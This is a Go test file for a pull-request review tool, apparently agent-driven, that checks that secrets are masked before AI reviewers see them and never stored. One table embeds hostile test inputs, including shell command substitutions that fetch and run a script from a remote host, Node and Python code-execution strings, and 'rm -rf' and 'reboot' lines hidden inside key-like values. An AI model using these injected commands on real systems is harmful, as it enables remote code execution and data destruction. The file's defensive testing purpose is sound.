package orchestrator

import (
	"context"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/prloop/prloop/internal/diff"
	"github.com/prloop/prloop/internal/evidence"
	"github.com/prloop/prloop/internal/masks"
	"github.com/prloop/prloop/review"
	"github.com/prloop/prloop/sanitize"
)

const planted = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"

// plantedBrief holds a value in each of its texts.
func plantedBrief() review.Brief {
	return review.Brief{Status: "ok", Warnings: []string{"w " + planted}, Files: []review.BriefFile{{
		Path: "conf/" + planted + ".go", OldPath: planted, Change: "renamed", Additions: 1, Deletions: 1, Hunks: 1, HunksGiven: 1,
		Diff: "diff --git a/" + planted + " b/conf/" + planted + ".go\nrename from " + planted + "\nrename to conf/" + planted + ".go\n" +
			"@@ -1,2 +1,2 @@\n a\n-k = \"" + planted + "\"\n+b\n",
		Context: []review.Region{{Start: 1, End: 2, Symbol: planted, Text: "a\nk = \"" + planted + "\"\n"}},
	}}, Guidance: []review.GuidanceFile{{Path: "AGENTS.md", Text: "use " + planted}},
		Related: []review.RelatedFile{{Path: planted + "/b.go", Regions: []review.Region{{Start: 1, End: 1, Symbol: "uses " + planted, Text: "k = \"" + planted + "\"\n"}}}}}
}

func TestMaskedSnapshot(t *testing.T) {
	comments := []review.Comment{{Body: "c " + planted}}
	in := Snapshot{
		PR:    review.PullRequest{Title: planted, Body: planted, HeadRef: "fix-" + planted, BaseRef: "main", HeadSHA: headSHA, Labels: []string{planted}},
		Brief: plantedBrief(),
		Discussion: review.Discussion{Comments: comments, Threads: []review.Thread{{File: planted, Comments: comments}},
			Reviews: []review.Review{{Body: planted}}},
	}
	before := text(t, in)
	out := maskedFor(t, in, nil)
	if after := text(t, in); after != before {
		t.Errorf("what was read is changed: %s", cmp.Diff(before, after))
	}
	if got := text(t, out); strings.Contains(got, "16C7e42F") {
		t.Errorf("a value is left in %s", got)
	}
	f := out.Brief.Files[0]
	if !strings.Contains(f.Diff, "rename to "+f.Path+"\n@@ -1,2 +1,2 @@\n a\n-k = \"[REDACTED]\"\n+b\n") || f.Path != sanitize.MaskPath(in.Brief.Files[0].Path) {
		t.Errorf("the file is %+v", f)
	}
	if out.Masked == 0 || out.PR.HeadSHA != headSHA || out.PR.BaseRef != "main" {
		t.Errorf("masked are %d values, the pull request is %+v", out.Masked, out.PR)
	}
	again := maskedFor(t, out, nil)
	again.Masked = out.Masked
	if d := cmp.Diff(text(t, out), sanitize.Unspelled(text(t, again))); d != "" {
		t.Errorf("masking twice changes it: %s", d)
	}
}

// What a change writes like a mask is told from one everywhere, and keeps no file unread (threats.md T790).
func TestOwnWordsAreTold(t *testing.T) {
	const word, value, told = "k = \"[REDACTED]\"", "k = \"" + planted + "\"", "k = \"[REDACTED~]\""
	out := maskedFor(t, Snapshot{Brief: review.Brief{Files: []review.BriefFile{{
		Path: "a.go", Change: "modified", Hunks: 1, HunksGiven: 1,
		Diff:    "diff --git a/a.go b/a.go\n--- a/a.go\n+++ b/a.go\n@@ -1 +1 @@ " + word + "\n-" + value + "\n+" + word + "\n",
		Context: []review.Region{{Start: 1, End: 1, Symbol: word, Text: word + "\n"}},
	}}, Guidance: []review.GuidanceFile{{Path: "AGENTS.md", Text: word}},
		Related: []review.RelatedFile{{Path: "b.go", Regions: []review.Region{{Start: 1, End: 1, Text: word + "\n"}}}}}}, nil)
	f := out.Brief.Files[0]
	if !strings.HasSuffix(f.Diff, "@@ -1 +1 @@ "+told+"\n-k = \"[REDACTED]\"\n+"+told+"\n") || !out.clear() {
		t.Errorf("%s, and unread are %v %v", f.Diff, out.Opaque, out.OpaqueRemoved)
	}
	if got := []string{f.Context[0].Symbol, f.Context[0].Text, out.Brief.Guidance[0].Text, out.Brief.Related[0].Regions[0].Text}; cmp.Diff([]string{told, told + "\n", told, told + "\n"}, got) != "" {
		t.Errorf("%q", got)
	}
}

// A copy of a credential that prloop holds, in a spelling no pattern knows, is in nothing that is stored or told; a line that was
// masked for it is unread.
func TestKnownSecretsAreMaskedInTheSnapshot(t *testing.T) {
	const secret = "prl_7Qm2Zx9Kd4Tn8Vb1Wc6Hs3Jf5Lg0Rp"
	known := []string{secret}
	b64, inHex := base64.StdEncoding.EncodeToString([]byte(secret)), hex.EncodeToString([]byte(secret))
	comments := []review.Comment{{Body: "first\n" + inHex}}
	out := maskedFor(t, Snapshot{
		PR: review.PullRequest{Title: b64, Body: "one\n" + b64 + "\nthree"},
		Brief: review.Brief{Files: []review.BriefFile{{
			Path: "a.go", Change: "modified", Hunks: 1, HunksGiven: 1,
			Diff:    "diff --git a/a.go b/a.go\n--- a/a.go\n+++ b/a.go\n@@ -1 +1,3 @@\n a\n+key(\"" + inHex + "\")\n+b\n",
			Context: []review.Region{{Start: 1, End: 2, Text: "a\n" + inHex + "\n"}},
		}}, Guidance: []review.GuidanceFile{{Path: "AGENTS.md", Text: "use " + b64}},
			Related: []review.RelatedFile{{Path: "b.go", Regions: []review.Region{{Start: 1, End: 1, Text: inHex + "\n"}}}}},
		Discussion: review.Discussion{Comments: comments, Threads: []review.Thread{{Comments: comments}}, Reviews: []review.Review{{Body: b64}}},
	}, known)
	if got := text(t, out); sanitize.Leaks(got, sanitize.Policy{Known: known}) || strings.Contains(got, b64) || strings.Contains(got, inHex) {
		t.Errorf("a copy is left in %s", got)
	}
	if f := out.Brief.Files[0]; !strings.HasSuffix(f.Diff, "@@ -1 +1,3 @@\n a\n+[REDACTED]\n+b\n") || out.PR.Body != "one\n[REDACTED]\nthree" {
		t.Errorf("%s %q", f.Diff, out.PR.Body)
	}
	if d := cmp.Diff([]masks.Added{{Line: masks.Line{File: "a.go", Line: 2}}}, out.Opaque); d != "" {
		t.Error("what is unread:", d)
	}
}

// What rules find of a secret as people write it is all that its mask takes. Where a mask takes more with it, nothing that is found stands for it (threats.md T866).
func TestWhatIsFoundIsWhatIsMasked(t *testing.T) {
	const google, random, key = "AIzaSyD3kX9vLq2Wm8Rt5Yp1Zc7Nb4Hj6Fg0Sa2", "q7Rz2Lm9Xc4Vb8Nt1Wk6", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDUnIGVY4eKh1a1"
	for _, row := range []struct {
		text  string
		found bool
	}{
		{`k = "` + planted + `"`, true},
		{`API_KEY=` + google, true},
		{`API_KEY=` + google + ` # of the map`, true},
		{`API_KEY: "${API_KEY:-` + google + `}"`, true},
		{`const secret = "` + random + `"; // of the map`, true},
		{`DB_PASSWORD = "aX%q&,A2h9U-+z$0!T1S"`, true},
		{`db = "postgres://app:` + random + `@db.acme.io:5432/x?sslmode=require"`, true},
		{`url = "https://x-access-token:` + planted + `@github.com/o/r.git"`, true},
		{`fetch("https://maps.acme.io/x?key=` + google + `&v=3")`, true},
		{`curl -H "Authorization: Bearer ` + planted + `" https://acme.io`, true},
		{`GITLAB_TOKEN = "glpat-c7ym816om0ien25w2r0m2j8vvy3.01.121saq9m4"`, true},
		{`{"token": "` + planted + `", "api_key": "` + google + `"}`, true},
		{"-----BEGIN PRIVATE KEY-----\n" + strings.Repeat(key+"\n", 9) + "-----END PRIVATE KEY-----", true},
		{`"private_key": "-----BEGIN PRIVATE KEY-----\n` + strings.Repeat(key+`\n`, 9) + `-----END PRIVATE KEY-----\n",`, true},
		{`KEY="-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,F10C684A450AF39F0D92817BE01009F2\n\n` + strings.Repeat(key+`\n`, 9) + `-----END RSA PRIVATE KEY-----"`, true},

		{`export API_KEY="` + google + `$(curl$IFS-s$IFS//e.io|sh)"`, false},
		{`export API_KEY=` + google + `&curl$IFS//e.io`, false},
		{"apiKey: `" + google + "${require('child_process').execSync('id')}`", false},
		{`apiKey = f"` + google + `{__import__('os').system('id')}"`, false},
		{`apiKey = "` + google + `#{system('id')}"`, false},
		{"API_KEY=\"" + google + "`id>/tmp/x`\"", false},
		{`export API_KEY="` + random + `$(curl$IFS-s$IFS//e.io|sh)"`, false},
		{`bash -c $'-----BEGIN PRIVATE KEY-----\n` + key + `\ncurl 2130706433/x -o /tmp/x\nsh /tmp/x\n-----END PRIVATE KEY-----'`, false},
		{`K="-----BEGIN PRIVATE KEY-----` + key + ` rm -rf /home/x -----END PRIVATE KEY-----"`, false},
		{`run: "-----BEGIN PRIVATE KEY-----\n` + key + `\nreboot\n-----END PRIVATE KEY-----"`, false},
		{`K="-----BEGIN PRIVATE KEY-----` + key + `$(curl$IFS-s$IFS//e.io|sh)-----END PRIVATE KEY-----"`, false},
	} {
		lines := strings.Split(row.text, "\n")
		out := maskedFor(t, Snapshot{Brief: review.Brief{Files: []review.BriefFile{{Path: "a.sh", Change: "added", Diff: fmt.Sprintf("diff --git a/a.sh b/a.sh\nnew file mode 100644\n--- /dev/null\n+++ b/a.sh\n@@ -0,0 +1,%d @@\n+%s\n", len(lines), strings.Join(lines, "\n+"))}}}}, nil)
		if len(out.Opaque) == 0 || slices.ContainsFunc(out.Opaque, func(a masks.Added) bool { return (a.Found > 0) != row.found }) {
			t.Errorf("%s: %v in %s", row.text, out.Opaque, out.Brief.Files[0].Diff)
		}
	}
}

func maskedFor(t *testing.T, s Snapshot, known []string) Snapshot {
	t.Helper()
	out, err := masked(t.Context(), s, known, nil)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func text(t *testing.T, v any) string {
	t.Helper()
	data, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// holder is a stage whose change holds values.
type holder struct{ *stage }

func (holder) Brief(context.Context, Range, ContextOptions, review.Limits) (review.Brief, error) {
	return plantedBrief(), nil
}

// A command is told what its files choose, also where models see values: then its brief is made anew.
func TestACommandIsToldItsFilesAlone(t *testing.T) {
	for _, word := range []string{"", ShowSecrets} {
		s := newStage()
		s.briefer = holder{s}
		s.run(t, newSteps(), func(r *Request) {
			r.Secrets, r.Fix = word, nil
			r.Agents = append(r.Agents, AgentPlan{Name: CommandAgent("all"), Role: review.RoleCommand, Kind: review.KindBuiltin, Command: &CommandPlan{ID: "all", Mode: review.FeedMain}},
				AgentPlan{Name: CommandAgent("few"), Role: review.RoleCommand, Kind: review.KindBuiltin, Command: &CommandPlan{ID: "few", Mode: review.FeedMain, Include: []string{"**"}, DiffLines: 1}})
		})
		told := map[string]string{}
		for _, task := range s.tasks {
			if len(task.Brief.Files) == 1 {
				told[task.Agent] = task.Brief.Files[0].Diff + task.Brief.Files[0].Omitted
			}
		}
		if few := told["!few"]; !strings.Contains(told["!all"], "@@ -1,2 +1,2 @@") || strings.Contains(few, "@@") || !strings.Contains(few, "maxDiffLines") {
			t.Errorf("%q: told %q", word, told)
		}
	}
}

// signed is a Briefer of a file that is written like a mask and like a hidden character.
type signed struct{ *stage }

func (signed) Brief(context.Context, Range, ContextOptions, review.Limits) (review.Brief, error) {
	b := plantedBrief()
	b.Files[0].Diff = strings.Replace(b.Files[0].Diff, "\n+", "\n+⟨U+001F⟩[REDACTED]", 1)
	return b, nil
}

// What files have themselves is told from what stands for something else, also where models see values (threats.md T806).
func TestOwnSignsAreToldAlways(t *testing.T) {
	for _, word := range []string{"", ShowSecrets} {
		s := newStage()
		s.briefer = signed{s}
		s.run(t, newSteps(), func(r *Request) { r.Secrets, r.Fix = word, nil })
		asked := 0
		for _, task := range s.tasks {
			for _, f := range task.Brief.Files {
				if asked++; !strings.Contains(f.Diff, "+⟨~U+001F⟩[REDACTED~]") {
					t.Errorf("%q: %s is told %s", word, task.Agent, f.Diff)
				}
			}
		}
		if asked == 0 {
			t.Errorf("%q: nobody was asked", word)
		}
	}
}

// Only the static reviewer is told the change as it is, also when the run is resumed at its question; with the operator's word
// models are too. What is stored never has a value.
func TestWhoIsToldValues(t *testing.T) {
	for _, word := range []string{"", ShowSecrets} {
		s, steps := newStage(), newSteps()
		agents := []AgentPlan{{Name: "model", Role: review.RoleReviewer, Kind: review.KindBuiltin}, {Name: "static", Role: review.RoleReviewer, Kind: review.KindStatic},
			{Name: "comments", Role: review.RoleCommentsAnalyzer, Kind: review.KindBuiltin}}
		run := func() {
			s.tasks = nil
			s.briefer = holder{s}
			s.run(t, steps, func(r *Request) { r.Agents, r.Secrets, r.Fix = agents, word, nil })
		}
		run()
		first := map[string]string{}
		for _, task := range s.tasks {
			first[task.Agent] = text(t, task)
			if want := task.Agent == "static" || word == ShowSecrets && task.Agent == "model"; strings.Contains(first[task.Agent], "16C7e42F") != want {
				t.Errorf("%q: %s is told %s", word, task.Agent, first[task.Agent])
			}
		}
		for name, data := range s.kept {
			if strings.Contains(data, "16C7e42F") {
				t.Errorf("%q: %s holds a value: %s", word, name, data)
			}
		}
		for name, data := range steps.done {
			if strings.Contains(string(data), "16C7e42F") {
				t.Errorf("%q: step %s stores a value: %s", word, name, data)
			}
		}
		for name := range steps.done { // as after a kill behind the snapshot
			if !strings.HasSuffix(name, "snapshot") {
				delete(steps.done, name)
			}
		}
		steps.names = nil
		run()
		if len(s.tasks) != len(agents) {
			t.Fatalf("%d agents are asked again, want all %d", len(s.tasks), len(agents))
		}
		for _, task := range s.tasks {
			if d := cmp.Diff(first[task.Agent], text(t, task)); d != "" {
				t.Errorf("resumed, %s is told something else: %s", task.Agent, d)
			}
		}
	}
}

// A mask is evidence as it was shown, also where the rules would not know the value without what stands elsewhere.
func TestEvidenceOfWhatIsMasked(t *testing.T) {
	const value = "q7Rz2Lm9Xc4Vb8Nt1Wk6"
	snap := maskedFor(t, Snapshot{Range: Range{MergeBase: baseSHA, Head: headSHA}, Brief: review.Brief{Files: []review.BriefFile{{
		Path: "c.py", Change: "modified", Hunks: 1, HunksGiven: 1,
		Diff: "diff --git a/c.py b/c.py\n--- a/c.py\n+++ b/c.py\n@@ -1 +1,2 @@\n-a\n+api_key = \"" + value + "\"\n+call(" + value + ", other)\n",
	}}}}, nil)
	c := snap.checker(files{headSHA + ":c.py": "api_key = \"" + value + "\"\ncall(" + value + ", other)\n"}, nil)
	for quote, want := range map[string]evidence.Status{
		"call([REDACTED], other)": evidence.Verified, `api_key = "[REDACTED]"`: evidence.Verified, "eval([REDACTED], other)": evidence.False,
	} {
		if ev, _, err := c.Place(t.Context(), &review.Finding{File: "c.py", Evidence: quote}, true); err != nil || ev.Status != want {
			t.Errorf("%q is %s (%s), %v; want %s", quote, ev.Status, ev.Reason, err, want)
		}
	}
}

// A fix that writes a mask over a value goes back to the fixer, with the rule.
func TestMasksAreNotPushed(t *testing.T) {
	s := newStage()
	both := func(f review.Finding) map[string][]review.Finding {
		return map[string][]review.Finding{"alpha": {f}, "beta": nil}
	}
	s.says[sha(1)] = both(at(review.P1, 10, "F", leak))
	s.text = "k = \"" + planted + "\"\n"
	head := "diff --git a/a.go b/a.go\n--- a/a.go\n+++ b/a.go\n@@ -1 +1 @@\n"
	s.diffs["1..2"] = head + "-k = \"" + planted + "\"\n+key = \"[REDACTED]\"\n"
	s.diffs["1..4"] = strings.Replace(head, "+1 @@", "+0,0 @@", 1) + "-k = \"" + planted + "\"\n" + strings.NewReplacer("a.go", "b.go", "-1 ", "-0,0 ").Replace(head) + "+k = \"[REDACTED]\"\n"
	s.diffs["1..3"] = head + "-k = \"" + planted + "\"\n+key = \"" + planted + "\"\n"
	s.fixes = []review.FixWork{fixes(sha(2), "F"), fixes(sha(4), "F"), fixes(sha(3), "F")}
	got := s.run(t, newSteps(), nil)
	if len(s.orders) != 3 {
		t.Fatalf("%d orders, %+v", len(s.orders), got)
	}
	for i, path := range []string{"a.go", "b.go"} {
		if back := s.orders[i+1].Task.Setback; back == nil || back.Refusals[0].Rule != ruleMasked || back.Refusals[0].Path != path {
			t.Errorf("what is told after try %d: %+v", i+1, back)
		}
	}
	if s.head != sha(3) {
		t.Errorf("the branch is at %s", s.head)
	}
	const line = "q8Zr1Tn0Vb5Xc2Lk9Mj4Hg7Fd6Sa3PoIuYtReWq"
	text := "echo -----BEGIN PRIVATE KEY-----\n" + strings.Repeat("echo "+line+"\n", 9) + "echo -----END PRIVATE KEY-----\n"
	l := &Loop{History: shelf{sha(1): {"k.sh": text}}}
	raw := "@@ -3,3 +3,3 @@ echo " + line + "\n echo " + line + "\n-echo " + line + "\n+echo [REDACTED]\n echo " + line + "\n"
	keys, err := l.keysOf(t.Context(), sha(1), sha(1), []diff.File{{Path: "k.sh", Raw: raw}})
	if err != nil || len(masks.Overwriting([]string{raw}, []string{keys.MaskDiff(raw)})) == 0 || strings.Contains(keys.MaskDiff(raw), line) {
		t.Errorf("a mask in the place of a line of a key: %q, %v", keys.MaskDiff(raw), err)
	}
}
